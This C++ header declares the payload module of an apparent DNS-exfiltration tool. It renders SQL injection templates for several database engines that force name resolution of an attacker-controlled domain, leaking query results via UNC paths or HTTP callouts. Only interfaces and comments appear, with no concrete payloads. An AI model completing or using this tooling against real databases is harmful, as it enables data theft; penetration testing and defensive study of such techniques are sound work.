#pragma once

#include <stdexcept>
#include <string>
#include <string_view>
#include <vector>

#include "dnsexfil/dns_wire.hpp"

namespace dnsexfil::payload {

struct PayloadError : std::runtime_error {
    using std::runtime_error::runtime_error;
};
struct PlaceholderMissing : PayloadError {
    using PayloadError::PayloadError;
};
/// The inner query has an unterminated string literal, which would break the
/// surrounding template. Rendering never rewrites the operator's SQL, so
/// this is an error instead of an escape.
struct QuoteUnsafe : PayloadError {
    using PayloadError::PayloadError;
};

enum class DbmsKind { mssql, oracle, mysql, postgresql };

std::string_view to_string(DbmsKind kind);
DbmsKind dbms_from_string(std::string_view name);

/// One DBMS subroutine that provokes name resolution when handed a crafted
/// host. `query_template` is the precalculation form: {QUERY} receives an
/// inner SQL expression whose result becomes the leading part of the
/// resolved name, {HOST} receives the controlled base domain.
/// `literal_template` takes a verbatim argument ({HOST} only).
struct Subroutine {
    DbmsKind dbms;
    std::string name;
    std::string query_template;
    std::string literal_template;
    bool windows_only = false;
    /// True for the MySQL/PostgreSQL entries: their exact published forms
    /// were not available, so these are reconstructions and are excluded
    /// from the verbatim-fidelity tests.
    bool reconstructed = false;
    /// UNC-consuming subroutines embed the host as \\host\foobar$;
    /// the rest take the host (or a URL built from it) directly.
    bool uses_unc = true;
};

std::vector<Subroutine> list_subroutines(DbmsKind dbms);
const Subroutine& find_subroutine(DbmsKind dbms, std::string_view name);

struct PayloadVector {
    std::string sql;
    Subroutine subroutine;
    /// The SQL expression or literal that ends up being resolved.
    std::string host_expression;
};

/// Precalculation form: the inner query computes the data-dependent part of
/// the name and the base domain is appended. The concatenation operator in
/// `inner_query` should match the DBMS dialect ('+' for MsSQL, '||' for the
/// others); render does not rewrite it.
PayloadVector render_vector(const Subroutine& sub, std::string_view inner_query,
                            const wire::DomainName& dns_domain);

/// Literal form: the argument is spliced verbatim (a plain path, a UNC
/// string, a host, or a URL depending on the subroutine).
PayloadVector render_literal(const Subroutine& sub, std::string_view argument);

/// \\<fqdn>\foobar$ — the UNC shape used by every UNC-consuming template.
std::string unc_for(const wire::DomainName& fqdn);

/// http://<fqdn>/ — argument shape for the HTTP-callout subroutines.
std::string url_for(const wire::DomainName& fqdn);

} // namespace dnsexfil::payload
